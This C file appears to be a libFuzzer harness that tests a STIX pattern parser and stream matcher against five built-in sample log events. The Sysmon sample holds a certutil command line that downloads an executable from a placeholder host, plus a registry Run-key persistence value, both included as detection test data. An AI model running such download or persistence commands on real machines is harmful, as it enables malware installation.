/*
 * fuzz_stix_pattern.c - libFuzzer target for the STIX pattern parser and
 * evaluator.
 *
 * The input is a pattern. It must either compile, or be refused with a
 * message that names a column; never crash, recurse without bound or read
 * past the text. A compiled pattern is then evaluated on a fixed set of
 * events (Zeek conn, SMTP and DNS records, a Sysmon process creation, a
 * Postfix line), asked for its simple values (which must be valid
 * indicators), and run through a stream matcher over those events twice
 * (with a small search budget), whose reports must name fed events in
 * time order.
 */
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "intel/stix-pattern.h"
#include "util/arena.h"
#include "util/timeconv.h"

struct kv {
    const char *k, *v;
};

static void build(struct event *ev, struct arena *a, const char *product, const char *service,
                  const char *category, int64_t ts, uint64_t id, const struct kv *kv)
{
    event_init(ev, a);
    ev->ls.product = product;
    ev->ls.service = service;
    ev->ls.category = category;
    ev->ts_ns = ts;
    ev->id = id;
    ev->file = "fuzz.log";
    ev->line = id;
    for (; kv->k; kv++) {
        int core = core_field_by_name(kv->k, strlen(kv->k));
        if (core >= 0)
            ev->core[core] = str_make(kv->v, strlen(kv->v));
        else
            event_add_copy(ev, kv->k, kv->v, strlen(kv->v), kv->v[0] == '[' ? VT_JSON : VT_STRING);
    }
}

#define NEV 5

static void make_events(struct event *evs, struct arena *a)
{
    const int64_t t0 = 1709510400LL * NS_PER_SEC;
    static const struct kv conn[] = {{"source.ip", "192.0.2.7"},
                                     {"destination.ip", "2001:db8::25"},
                                     {"source.port", "51514"},
                                     {"destination.port", "443"},
                                     {"source.bytes", "1200"},
                                     {"destination.bytes", "48213"},
                                     {"proto", "tcp"},
                                     {"service", "ssl,http"},
                                     {"orig_l2_addr", "00:1a:2b:3c:4d:5e"},
                                     {NULL, NULL}};
    static const struct kv smtp[] = {{"source.ip", "198.51.100.42"},
                                     {"email.from.address", "noreply@lists.example.net"},
                                     {"email.to.address", "karl@example.org"},
                                     {"email.subject", "[members] March programme"},
                                     {"email.message_id", "6b82@lists.example.net"},
                                     {"from", "Lists <noreply@lists.example.net>"},
                                     {"to", "[\"Karl <karl@example.org>\",\"c@example.com\"]"},
                                     {"rcptto", "[\"karl@example.org\"]"},
                                     {"x_originating_ip", "192.0.2.140"},
                                     {NULL, NULL}};
    static const struct kv dns[] = {{"dns.question.name", "www.5z8.info"},
                                    {"answers", "[\"cdn.5z8.info\",\"198.51.100.1\"]"},
                                    {"source.ip", "10.0.0.5"},
                                    {NULL, NULL}};
    static const struct kv sysmon[] = {
        {"Image", "C:\\Windows\\System32\\certutil.exe"},
        {"process.command_line", "certutil.exe -urlcache -f http://x.example/y.exe"},
        {"ProcessId", "4321"},
        {"ParentImage", "C:\\Windows\\explorer.exe"},
        {"file.hash.sha256", "aec070645fe53ee3b3763059376134f058cc337247c978add178b6ccdfb0019f"},
        {"TargetObject", "HKLM\\Software\\Run\\Evil"},
        {"EventType", "SetValue"},
        {"user.name", "bob"},
        {NULL, NULL}};
    static const struct kv postfix[] = {{"source.ip", "::ffff:203.0.113.50"},
                                        {"client_hostname", "mail.bad.example"},
                                        {"user.name", "alice@example.org"},
                                        {"url.full", "http://Evil.example:8080/a?b=c"},
                                        {"program", "postfix/smtpd"},
                                        {"pid", "0x10"},
                                        {NULL, NULL}};
    build(&evs[0], a, "zeek", "conn", NULL, t0, 1, conn);
    build(&evs[1], a, "zeek", "smtp", NULL, t0 + 5 * NS_PER_SEC, 2, smtp);
    build(&evs[2], a, "zeek", "dns", NULL, t0 + 5 * NS_PER_SEC, 3, dns);
    build(&evs[3], a, "windows", "sysmon", "process_creation", t0 + 60 * NS_PER_SEC, 4, sysmon);
    build(&evs[4], a, "postfix", "smtpd", NULL, TIME_NONE, 5, postfix);
}

static void value_cb(void *opaque, enum ioc_type t, const char *v, size_t n)
{
    (void)opaque;
    char *out = malloc(n + 64);
    const char *why;
    if (!out)
        abort();
    if (ioc_normalise(t, v, n, out, &why) < 0)
        abort(); /* simple values promise valid indicators */
    free(out);
}

static int on_match(void *opaque, void *user, const struct stix_evref *evs, size_t nevs)
{
    (void)user;
    size_t *count = opaque;
    if (nevs == 0)
        abort();
    for (size_t i = 0; i < nevs; i++) {
        if (evs[i].id < 1 || evs[i].id > NEV || !evs[i].file || strcmp(evs[i].file, "fuzz.log"))
            abort();
        if (i && evs[i - 1].ts_ns > evs[i].ts_ns)
            abort();
    }
    (*count)++;
    return 0;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    char *text = malloc(size ? size : 1); /* exact size: reads past the end are caught */
    if (!text)
        abort();
    if (size)
        memcpy(text, data, size);
    struct stix_pattern *p = NULL;
    char err[256];
    int rc = stix_pattern_compile(text, size, &p, err, sizeof(err));
    if (rc) {
        if (!p && strncmp(err, "column ", 7) && strncmp(err, "line ", 5))
            abort(); /* a refusal names its place */
        free(text);
        return 0;
    }
    if (strlen(stix_pattern_text(p)) > size || memcmp(stix_pattern_text(p), text, size))
        abort();
    if (stix_pattern_observations(p) == 0)
        abort();
    struct arena a;
    arena_init(&a, 16 * 1024);
    struct event evs[NEV];
    make_events(evs, &a);
    for (int i = 0; i < NEV; i++)
        (void)stix_pattern_match_event(p, &evs[i]);
    stix_pattern_simple_values(p, value_cb, NULL);
    struct stix_matcher_opts o = {16, 2000, false};
    struct stix_matcher *m = stix_matcher_new(&o);
    size_t count = 0;
    if (stix_matcher_add(m, p, NULL) == 0)
        for (int round = 0; round < 2; round++)
            for (int i = 0; i < NEV; i++)
                stix_matcher_feed(m, &evs[i], on_match, &count);
    struct stix_matcher_stats st;
    stix_matcher_stats(m, &st);
    if (st.matches != count || st.kept > 16)
        abort();
    stix_matcher_free(m);
    arena_free(&a);
    stix_pattern_free(p);
    free(text);
    return 0;
}
